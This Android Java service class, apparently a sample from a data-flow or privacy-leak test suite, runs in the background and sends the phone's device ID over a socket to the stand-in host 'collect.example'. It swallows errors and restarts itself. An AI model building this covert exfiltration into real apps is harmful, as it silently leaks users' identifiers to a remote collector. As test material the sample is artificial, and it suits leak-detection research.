package org.example.flows.spy;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import org.example.flows.Device;

/** One channel for the whole program, opened by a thread, written to by a service. */
public class Channel extends Service {
    static SocketChannel channel;

    @Override
    public void onCreate() {
        super.onCreate();
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    channel = SocketChannel.open();
                    channel.connect(new InetSocketAddress("collect.example", 7010));
                } catch (IOException ignored) {
                    stopSelf();
                }
            }
        }).start();
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        byte[] id = Device.phone(this).getDeviceId().getBytes();
        ByteBuffer frame = ByteBuffer.allocate(4 + id.length);
        frame.putInt(id.length);
        frame.put(id);
        frame.flip();
        try {
            channel.write(frame);
        } catch (IOException ignored) {
            stopSelf();
        }
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
